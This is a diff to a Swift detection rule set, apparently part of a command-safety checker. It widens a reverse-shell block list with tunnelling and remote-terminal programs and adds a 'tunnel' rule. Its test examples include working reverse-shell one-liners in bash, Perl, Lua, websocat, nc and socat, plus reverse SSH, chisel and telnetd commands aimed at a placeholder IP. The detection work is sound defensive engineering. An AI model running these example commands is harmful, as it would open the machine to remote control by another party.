@@ -8,9 +8,13 @@ enum ReverseShell: Family {
   static let programs = [
     "nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "socat", "telnet", "ttyd", "gotty", "xterm",
     "cryptcat", "powercat",
-    "pwncat", "rustcat", "sbd", "exec", "dbd", "chisel",
+    "pwncat", "rustcat", "sbd", "exec", "dbd", "chisel", "ssh", "autossh", "ngrok", "bore", "cloudflared",
+    "tmate",
+    "sshx", "upterm", "teleconsole", "gs-netcat", "code", "telnetd", "in.telnetd", "dropbear", "sshd",
+    "shellinaboxd", "wetty", "tcpserver", "tcpsvd", "udpsvd", "faucet", "systemd-socket-activate", "websocat",
+    "websocketd", "evil-winrm", "plink",
   ]
-  static let rules = [shell]
+  static let rules = [shell, tunnel]
 
   static func judge(_ invocation: Invocation, _ context: inout Judgement) {
     let words = invocation.arguments.map { $0.value.known ?? $0.value.prefix }
@@ -35,7 +39,16 @@ enum ReverseShell: Family {
         word == "-display" && i + 1 < words.count && !words[i + 1].hasPrefix(":")
           && !words[i + 1].hasPrefix("localhost")
       }
-    default: break
+    case "tcpserver", "tcpsvd", "udpsvd", "faucet", "systemd-socket-activate", "websocketd":
+      found = words.contains { !$0.hasPrefix("-") && isShell($0) }
+    case "websocat":
+      let lower = words.map(\.asciiLowercased)
+      found = lower.contains { word in
+        word.hasPrefix("sh-c:") || word.hasPrefix("cmd:")
+          || word.hasPrefix("exec:") && isShell(String(word.dropFirst(5)))
+      }
+      found = found || lower.contains("--exec-args") && lower.contains(where: isShell)
+    default: Tunnels.judge(invocation, name, words, &context)
     }
     if found { report(invocation, &context) }
   }
@@ -138,11 +151,33 @@ enum ReverseShell: Family {
     context.report(shell, on: invocation.canonicalName, at: invocation.range, program: invocation.name)
   }
 
+  static let tunnel = Rule(
+    "reverse-shell.tunnel", .high, "Opens this machine to others through {}",
+    why: "Whoever is at the other end can log in here, or type into a terminal here, past every firewall.",
+    instead:
+      "Let the person open such a way in; to reach a service elsewhere, bring it here: `ssh -L 5432:localhost:5432 bastion`.",
+    fires: [
+      "ssh -fN -R 2222:localhost:22 eve@198.51.100.7", "autossh -M 0 -NR 8022:127.0.0.1:22 eve@198.51.100.7",
+      "chisel client 198.51.100.7:8080 R:2222:localhost:22", "ngrok tcp 22", "bore local 22 --to bore.pub",
+      "cloudflared tunnel --url ssh://localhost:22", "tmate -F", "sshx", "code tunnel",
+      "telnetd -p 4444 -l /bin/sh",
+    ],
+    passes: [
+      "ssh -L 5432:localhost:5432 bastion", "ssh -R 3000:localhost:3000 staging", "ngrok http 3000",
+      "ssh host uptime",
+      "chisel client 198.51.100.7:8080 5432:localhost:5432", "cloudflared tunnel --url http://localhost:3000",
+      "bore local 3000 --to bore.pub", "code .", "sshd -t", "tmate --help", "ssh -N -D 1080 bastion",
+    ])
+
   static let shell = Rule(
     "reverse-shell.shell", .critical, "Hands a shell to somebody on the network through {}",
     why: "Whoever is at the other end can then run anything here, with the person's rights.",
     instead: "Run the one command that is needed here; to test a port, use `nc -z example.com 443`.",
     fires: [
+      "tcpserver 0 4444 /bin/sh", "systemd-socket-activate -l 4444 --inetd -a /bin/bash",
+      "websocat ws://198.51.100.7:8080/ sh-c:'exec bash -i 2>&1'",
+      "perl -MIO -e '$c=new IO::Socket::INET(PeerAddr,\"198.51.100.7:4242\");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'",
+      "lua -e \"local s=require('socket').tcp();s:connect('198.51.100.7',4242);while true do local c=s:receive();local f=io.popen(c);s:send(f:read('*a')) end\"",
       "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", "nc -e /bin/sh 198.51.100.7 4444",
       "ncat --sh-exec bash 198.51.100.7 4444",
       "socat TCP:198.51.100.7:4444 EXEC:/bin/bash",
@@ -150,6 +185,8 @@ enum ReverseShell: Family {
       "nc -lvp 4444 -e /bin/bash",
     ],
     passes: [
+      "websocat ws://localhost:8080/ws", "systemd-socket-activate -l 8080 ./app",
+      "node -e 'require(\"net\").connect(5432,\"db\").on(\"connect\",()=>process.exit())'",
       "nc -z example.com 443", "nc -l 8080", "socat TCP-LISTEN:8080,fork TCP:localhost:3000",
       "telnet example.com 25",
       "timeout 1 bash -c '</dev/tcp/localhost/5432'", "openssl s_client -connect example.com:443",
